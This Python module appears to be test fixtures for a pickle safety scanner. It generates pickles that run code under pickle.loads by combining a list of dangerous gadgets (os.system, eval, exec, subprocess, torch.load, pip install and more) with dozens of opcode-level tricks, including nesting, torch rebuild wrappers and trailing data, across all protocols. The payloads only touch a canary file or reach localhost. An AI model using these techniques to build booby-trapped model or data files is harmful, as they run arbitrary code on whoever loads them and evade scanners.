"""Pickles that run code when a loader executes them: gadgets times techniques times protocols.

Each would create the file ``canary`` (or import, open, connect, ...) under ``pickle.loads``. They are written opcode by
opcode, or pickled by the real pickler from objects whose ``__reduce__`` names the gadget.
"""

import os
import pickle
import struct
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

Gadget = tuple[str, str, tuple[Any, ...]]


OF_NOTHING = """
    code:interact bdb:Bdb tempfile:mkdtemp sys:exit os:fork threading:Thread multiprocessing:Process gc:get_objects
    cloudpickle.cloudpickle:_make_function torch.distributed.rpc:rpc_sync logging.config:listen
"""
OF_A_COMMAND = """
    os:system posix:system nt:system os:popen asyncio:create_subprocess_shell platform:popen commands:getoutput
    deepspeed.ops.op_builder:OpBuilder.command_exists
"""
OF_CODE = """
    builtins:eval builtins:exec __builtin__:eval pdb:run timeit:timeit cProfile:run doctest:debug_script
    numpy.f2py:compile torch._dynamo.guards:GuardBuilder.get sympy:sympify
"""
OF_A_PATH = """
    os:mkdir runpy:run_path shutil:rmtree pathlib:Path.touch joblib:load numpy:load numpy:memmap torch:load
    torch.jit:load torch._classes:load_library torch:ops.load_library torch.serialization:load
    torch._inductor.codecache:compile_file pandas:read_pickle sqlite3:connect zipimport:zipimporter linecache:getlines
    fileinput:FileInput site:addsitedir
"""
INNER = b"cos\nsystem\n(Vtouch x\ntR."


def gadgets(canary: Path) -> dict[str, Gadget]:
    """Module, name and arguments of calls that leave a trace."""
    path, code = str(canary), f"open({str(canary)!r}, 'w')"
    shell = f"touch {path}"
    calls: dict[str, tuple[Any, ...]] = {
        **dict.fromkeys(OF_A_COMMAND.split(), (shell,)),
        **dict.fromkeys(OF_CODE.split(), (code,)),
        **dict.fromkeys(OF_A_PATH.split(), (path,)),
        **dict.fromkeys(OF_NOTHING.split(), ()),
        **dict.fromkeys(("builtins:open", "io:open", "_io:open"), (path, "w")),
        **dict.fromkeys(("pickle:loads", "_pickle:loads", "torch.storage:_load_from_bytes"), (INNER,)),
        **dict.fromkeys(("subprocess:Popen", "subprocess:check_output", "pty:spawn", "distutils.spawn:spawn"),
                        (["touch", path],)),
        **dict.fromkeys(("socket:create_connection", "ssl:get_server_certificate"), (("localhost", 9),)),
        **dict.fromkeys(("webbrowser:open", "urllib.request:urlopen"), ("http://localhost:9/",)),
        **dict.fromkeys(("http.client:HTTPConnection", "smtplib:SMTP"), ("localhost",)),
        **dict.fromkeys(("builtins:__import__", "importlib:import_module"), ("antigravity",)),
        "os:execv": ("/bin/sh", ["sh", "-c", shell]),
        "os:open": (path, os.O_CREAT),
        "os:_exit": (1,),
        "os:kill": (0, 15),
        "signal:raise_signal": (15,),
        "sys:setrecursionlimit": (10,),
        "builtins:compile": (code, "x", "exec"),
        "builtins:getattr": ("text", "upper"),
        "builtins:setattr": ("text", "upper", 1),
        "builtins:map": (print, [1]),
        "pathlib:Path.write_text": (path, "x"),
        "types:CodeType": (0,) * 5,
        "types:FunctionType": (b"", {}),
        "marshal:loads": (b"\xe3" * 20,),
        "operator:attrgetter": ("system",),
        "operator:methodcaller": ("system", shell),
        "functools:partial": (print, "x"),
        "functools:reduce": (print, [1, 2]),
        "itertools:starmap": (print, [(1,)]),
        "atexit:register": (print,),
        "ctypes:CDLL": ("libc.so.6",),
        "copyreg:add_extension": ("os", "system", 240),
        "dill:loads": (b".",),
        "numpy.testing._private.utils:runstring": (code, {}),
        "torch.hub:load": ("a/b", "c"),
        "torch.utils.cpp_extension:load_inline": ("x", code),
        "pip:main": (["install", "x"],),
        "uuid:_get_command_stdout": ("touch", path),
    }  # fmt: skip
    return {name.replace(":", "."): (*name.split(":"), args) for name, args in calls.items()}  # type: ignore[misc]


class _Call:
    """Reduces to a call of a stand-in whose module and name are then replaced in the bytes."""

    def __init__(self, args: tuple[Any, ...]) -> None:
        self.args = args

    def __reduce__(self) -> tuple[Any, ...]:
        return _stand_in, self.args


def _stand_in(*args: Any) -> None:
    raise AssertionError("a test ran the stand-in")


def arguments(args: tuple[Any, ...]) -> bytes:
    """The opcodes that push ``args`` as a tuple, in protocol 2."""
    data = pickle.dumps(tuple(arg for arg in args if arg is not print), protocol=2)
    return data[2:-1]


def pushed(value: Any, *, protocol: int = 2) -> bytes:
    """The opcodes that push ``value``; a function as None."""
    return pickle.dumps(None if value is print else value, protocol=protocol)[2:-1]


def first(args: tuple[Any, ...]) -> bytes:
    """The opcodes that push the first argument, if there is one."""
    return pushed(args[0] if args else None)


def text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()


Technique = Callable[[str, str, tuple[Any, ...]], bytes]

TECHNIQUES: dict[str, Technique] = {
    "GLOBAL REDUCE": lambda m, n, a: b"\x80\x02c%b\n%b\n%bR." % (m.encode(), n.encode(), arguments(a)),
    "STACK_GLOBAL REDUCE": lambda m, n, a: b"\x80\x04" + text(m) + text(n) + b"\x93" + arguments(a) + b"R.",
    "STACK_GLOBAL from memo": lambda m, n, a: (
        b"\x80\x04" + text(m) + b"\x940" + text(n) + b"\x940h\x00h\x01\x93" + arguments(a) + b"R."
    ),
    "INST": lambda m, n, a: b"(%bi%b\n%b\n." % (b"".join(map(pushed, a)), m.encode(), n.encode()),
    "OBJ": lambda m, n, a: b"(c%b\n%b\n%bo." % (m.encode(), n.encode(), b"".join(map(pushed, a))),
    "NEWOBJ": lambda m, n, a: b"\x80\x02c%b\n%b\n%b\x81." % (m.encode(), n.encode(), arguments(a)),
    "NEWOBJ_EX": lambda m, n, a: b"\x80\x04c%b\n%b\n%b}\x92." % (m.encode(), n.encode(), arguments(a)),
    "BUILD on the global": lambda m, n, a: b"c%b\n%b\n}Vx\nVy\nsb." % (m.encode(), n.encode()),
    "BUILD __setstate__": lambda m, n, a: (
        b"ccollections\nOrderedDict\n)R}V__setstate__\nc%b\n%b\nsb" % (m.encode(), n.encode()) + first(a) + b"b."
    ),
    "BUILD __setstate__ on a placeholder": lambda m, n, a: (
        b"csome\nClass\n)\x81}V__setstate__\nc%b\n%b\nsb" % (m.encode(), n.encode()) + first(a) + b"b."
    ),
    "slot state": lambda m, n, a: b"csome\nClass\n)\x81N}V__call__\nc%b\n%b\ns\x86b" % (m.encode(), n.encode()) + b".",
    "getattr chain": lambda m, n, a: (
        b"cbuiltins\ngetattr\n(cbuiltins\n__import__\nV%b\n\x85RV%b\ntR%bR." % (m.encode(), n.encode(), arguments(a))
    ),
    "inside torch.Size": lambda m, n, a: b"ctorch\nSize\nc%b\n%b\n%bR\x85R." % (m.encode(), n.encode(), arguments(a)),
    "in a rebuild": lambda m, n, a: (
        b"ctorch._tensor\n_rebuild_from_type_v2\n(c%b\n%b\nctorch\nTensor\n%bNtR."
        % (m.encode(), n.encode(), arguments(a))
    ),
    "as a factory": lambda m, n, a: (
        b"ccollections\ndefaultdict\n(c%b\n%b\ntR%b0." % (m.encode(), n.encode(), arguments(a))
    ),
    "as a dict key": lambda m, n, a: b"}c%b\n%b\n%bRNs." % (m.encode(), n.encode(), arguments(a)),
    "APPENDS on the global": lambda m, n, a: b"c%b\n%b\n(NNe." % (m.encode(), n.encode()),
    "in a DCP record": lambda m, n, a: (
        b"\x80\x02ctorch.distributed.checkpoint.metadata\nMetadata\n)\x81}Vstate_dict_metadata\nc%b\n%b\n%bRsb."
        % (m.encode(), n.encode(), arguments(a))
    ),
    "_reconstructor": lambda m, n, a: (
        b"ccopy_reg\n_reconstructor\n(c%b\n%b\ncbuiltins\nobject\nNtR." % (m.encode(), n.encode())
    ),
    "nested": lambda m, n, a: (
        b"\x80\x03cpickle\nloads\nC"
        + bytes([len(inner := b"c%b\n%b\n)R." % (m.encode(), n.encode()))])
        + inner
        + b"\x85R."
    ),
    "trailing": lambda m, n, a: b"N.c%b\n%b\n%bR." % (m.encode(), n.encode(), arguments(a)),
    "persistent id": lambda m, n, a: b"c%b\n%b\n%bRQ." % (m.encode(), n.encode(), arguments(a)),
    "attrgetter chain": lambda m, n, a: (
        b"coperator\nattrgetter\nV%b\n\x85Rcbuiltins\n__import__\nV%b\n\x85R\x85R%bR."
        % (n.encode(), m.encode(), arguments(a))
    ),
    "functools.partial": lambda m, n, a: (
        b"cfunctools\npartial\n(c%b\n%b\n%btR)R." % (m.encode(), n.encode(), b"".join(map(pushed, a)))
    ),
    "functools.reduce": lambda m, n, a: (
        b"cfunctools\nreduce\n(c%b\n%b\n(%bltR." % (m.encode(), n.encode(), b"".join(map(pushed, a)))
    ),
    "map in a list": lambda m, n, a: (
        b"cbuiltins\nlist\ncbuiltins\nmap\n(c%b\n%b\n(%bltR\x85R." % (m.encode(), n.encode(), first(a))
    ),
    "extension registry": lambda m, n, a: (
        b"\x80\x02ccopyreg\nadd_extension\n(V%b\nV%b\nK\xf0tR0\x82\xf0%bR." % (m.encode(), n.encode(), arguments(a))
    ),
    "append of its own": lambda m, n, a: (
        b"ccollections\nOrderedDict\n)R}Vappend\nc%b\n%b\nsb%ba." % (m.encode(), n.encode(), first(a))
    ),
    "extend of its own": lambda m, n, a: (
        b"ccollections\nOrderedDict\n)R}Vextend\nc%b\n%b\nsb(%be." % (m.encode(), n.encode(), first(a))
    ),
    "add of its own": lambda m, n, a: (
        b"\x80\x04ccollections\nOrderedDict\n)R}Vadd\nc%b\n%b\nsb(%b\x90." % (m.encode(), n.encode(), first(a))
    ),
    "__newobj__": lambda m, n, a: (
        b"ccopy_reg\n__newobj__\n(c%b\n%b\n%btR." % (m.encode(), n.encode(), b"".join(map(pushed, a)))
    ),
    "base of _reconstructor": lambda m, n, a: (
        b"ccopy_reg\n_reconstructor\n(cbuiltins\nobject\nc%b\n%b\n%btR." % (m.encode(), n.encode(), first(a))
    ),
    "rebuild with a list": lambda m, n, a: (
        b"ctorch._tensor\n_rebuild_from_type_v2\n(c%b\n%b\nctorch\nTensor\n(%blNtR."
        % (m.encode(), n.encode(), b"".join(map(pushed, a)))
    ),
    "state of a rebuild": lambda m, n, a: (
        b"ctorch._utils\n_rebuild_parameter_with_state\n(NI01\nN}V__setstate__\nc%b\n%b\nstR%bb."
        % (m.encode(), n.encode(), first(a))
    ),
    "constructor of numpy": lambda m, n, a: (
        b"cnumpy.random._pickle\n__randomstate_ctor\n(%bc%b\n%b\ntR." % (first(a), m.encode(), n.encode())
    ),
    "numpy object": lambda m, n, a: (
        b"cnumpy._core.multiarray\nscalar\n(cnumpy\ndtype\n(VO\ntRc%b\n%b\n%bRtR."
        % (m.encode(), n.encode(), arguments(a))
    ),
    "wrapper of torch": lambda m, n, a: (
        b"ctorch._utils\n_rebuild_wrapper_subclass\n(c%b\n%b\n%bRNtR." % (m.encode(), n.encode(), arguments(a))
    ),
    "in _load_from_bytes": lambda m, n, a: _with_bytes(b"ctorch.storage\n_load_from_bytes\n", m, n, a),
    "in _pickle.loads": lambda m, n, a: _with_bytes(b"c_pickle\nloads\n", m, n, a),
    "twice nested": lambda m, n, a: _loading(_loading(TECHNIQUES["GLOBAL REDUCE"](m, n, a))),
    "after a first": lambda m, n, a: b"\x80\x04N.\x80\x02}." + TECHNIQUES["STACK_GLOBAL REDUCE"](m, n, a),
    "name from a call": lambda m, n, a: (
        b"\x80\x04cbuiltins\nstr\n(V%b\ntRV%b\n\x93%bR." % (m.encode(), n.encode(), arguments(a))
    ),
    "popped": lambda m, n, a: b"c%b\n%b\n%bR0N." % (m.encode(), n.encode(), arguments(a)),
    "cut off afterwards": lambda m, n, a: b"\x80\x02c%b\n%b\n%bR}" % (m.encode(), n.encode(), arguments(a)),
}


def _with_bytes(function: bytes, module: str, name: str, args: tuple[Any, ...]) -> bytes:
    return b"\x80\x03" + function + pushed(TECHNIQUES["GLOBAL REDUCE"](module, name, args), protocol=3) + b"\x85R."


def _loading(data: bytes) -> bytes:
    return b"\x80\x03cpickle\nloads\n" + pushed(data, protocol=3) + b"\x85R."


def crafted(canary: Path) -> Iterator[tuple[str, bytes]]:
    """Every technique with every gadget."""
    for name, (module, attribute, args) in gadgets(canary).items():
        for technique, make in TECHNIQUES.items():
            yield f"{technique}: {name}", make(module, attribute, args)


def pickled(canary: Path) -> Iterator[tuple[str, bytes]]:
    """Every gadget as the real pickler writes a ``__reduce__``, in protocols 0 to 5."""
    stand_in = (_stand_in.__module__, _stand_in.__name__)
    for name, (module, attribute, args) in gadgets(canary).items():
        for protocol in range(pickle.HIGHEST_PROTOCOL + 1):
            plain = tuple(arg for arg in args if arg is not print)
            data = pickle.dumps({"state": _Call(plain)}, protocol=protocol)
            yield f"protocol {protocol}: {name}", _renamed(data, stand_in, (module, attribute))


def _renamed(data: bytes, old: tuple[str, str], new: tuple[str, str]) -> bytes:
    """The same pickle with another global; frames are dropped, since their lengths change."""
    data = data[:2] + data[11:] if data[2:3] == b"\x95" else data
    lines = data.replace("c{}\n{}\n".format(*old).encode(), "c{}\n{}\n".format(*new).encode())
    for before, after in zip(old, new, strict=True):
        short = b"\x8c" + bytes([len(before)]) + before.encode()
        lines = lines.replace(short, b"\x8c" + bytes([len(after)]) + after.encode())
    return lines
